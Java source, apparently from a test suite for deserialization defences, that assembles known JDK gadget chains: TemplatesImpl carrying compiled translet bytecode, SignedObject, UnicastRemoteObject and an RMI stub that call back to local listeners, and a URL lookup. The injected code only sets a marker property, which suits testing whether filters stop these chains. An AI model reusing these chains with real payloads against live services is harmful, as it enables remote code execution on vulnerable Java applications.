package dev.holdfast.gadgets;

import com.example.shop.Alarm;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.Serializable;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.rmi.RemoteException;
import java.rmi.registry.LocateRegistry;
import java.rmi.server.RemoteObject;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.SignedObject;
import java.util.List;
import javax.management.remote.rmi.RMIConnectionImpl_Stub;
import javax.tools.ToolProvider;

/** What needs no library, at most a class of the application that calls a getter. */
final class JdkPayloads {
    private static final String SHOP = "com.example.shop.";
    private static final int RSA_BITS = 1024;

    private static final String TRANSLET = """
            import com.sun.org.apache.xalan.internal.xsltc.DOM;
            import com.sun.org.apache.xalan.internal.xsltc.runtime.AbstractTranslet;
            import com.sun.org.apache.xml.internal.dtm.DTMAxisIterator;
            import com.sun.org.apache.xml.internal.serializer.SerializationHandler;

            public final class Translet extends AbstractTranslet {
                static {
                    System.setProperty("%s", "yes");
                }

                @Override
                public void transform(DOM document, SerializationHandler[] handlers) {}

                @Override
                public void transform(DOM document, DTMAxisIterator iterator, SerializationHandler handler) {}
            }
            """.formatted(Alarm.RUNG);

    private static byte[] translet;

    private JdkPayloads() {}

    static List<Payload> all() {
        Witness.OfListeners listener = new Witness.OfListeners();
        Witness.OfListeners ownListener = new Witness.OfListeners();
        Witness.OfCalls calls = new Witness.OfCalls();
        return List.of(
                Payload.ringing("JDK, TemplatesImpl", List.of(), JdkPayloads::templatesByTheApplication),
                Payload.ringing("JDK, SignedObject", List.of(), JdkPayloads::signedObject),
                Payload.ringing(
                                "JDK, UnicastRemoteObject",
                                List.of(),
                                forge -> forge.construct("java.rmi.server.UnicastRemoteObject", listener.port()))
                        .seenBy(listener),
                Payload.ringing(
                                "JDK, UnicastRemoteObject as a super class",
                                List.of(),
                                forge -> forge.construct(SHOP + "Listening", ownListener.port()))
                        .seenBy(ownListener),
                Payload.ringing("JDK, RMIConnectionImpl_Stub", List.of(), forge -> stub(calls.port()))
                        .seenBy(calls));
    }

    static Payload url() {
        return Payload.ringing(
                        "JDK, URL",
                        List.of(),
                        forge -> Later.hashing(URI.create("counted://host/").toURL()))
                .seenBy(Witness.ofLookUps());
    }

    /** Its class, which the bytes bring along, is initialised as soon as it is asked for its output properties. */
    static Object templates(Forge forge) {
        return forge.make(
                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
                "_name",
                "any",
                "_transletIndex",
                -1,
                "_bytecodes",
                new byte[][] {translet()});
    }

    private static synchronized byte[] translet() {
        if (translet == null) {
            try {
                Path directory = Files.createTempDirectory("translet");
                Path source = Files.writeString(directory.resolve("Translet.java"), TRANSLET);
                Path file = directory.resolve("Translet.class");
                ByteArrayOutputStream said = new ByteArrayOutputStream();
                String xalan = "java.xml/com.sun.org.apache.";
                int result = ToolProvider.getSystemJavaCompiler()
                        .run(
                                null,
                                said,
                                said,
                                "-proc:none",
                                "--add-exports",
                                xalan + "xalan.internal.xsltc=ALL-UNNAMED",
                                "--add-exports",
                                xalan + "xalan.internal.xsltc.runtime=ALL-UNNAMED",
                                "--add-exports",
                                xalan + "xml.internal.dtm=ALL-UNNAMED",
                                "--add-exports",
                                xalan + "xml.internal.serializer=ALL-UNNAMED",
                                source.toString());
                if (result != 0) {
                    throw new IllegalStateException(said.toString(StandardCharsets.UTF_8));
                }
                translet = Files.readAllBytes(file);
                for (Path made : List.of(source, file, directory)) {
                    Files.delete(made);
                }
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return translet;
    }

    private static Object templatesByTheApplication(Forge forge) {
        Object comparator = forge.make(SHOP + "ByProperty", "getter", "getOutputProperties");
        return Later.comparing(comparator, templates(forge), templates(forge));
    }

    /** Holds bytes, and reads them without any filter. */
    private static Object signedObject(Forge forge) throws Exception {
        Object alarms = Later.comparing(
                forge.make(SHOP + "ByProperty", "getter", "getRung"),
                forge.make(SHOP + "Alarm"),
                forge.make(SHOP + "Alarm"));
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(RSA_BITS);
        KeyPair pair = generator.generateKeyPair();
        SignedObject signed =
                new SignedObject((Serializable) alarms, pair.getPrivate(), Signature.getInstance("SHA256withRSA"));
        return Later.comparing(forge.make(SHOP + "ByProperty", "getter", "getObject"), signed, signed);
    }

    /** Whoever reads it calls where the registry is said to be. */
    private static Object stub(int port) throws RemoteException {
        RemoteObject registry = (RemoteObject)
                LocateRegistry.getRegistry(InetAddress.getLoopbackAddress().getHostAddress(), port);
        return new RMIConnectionImpl_Stub(registry.getRef());
    }
}
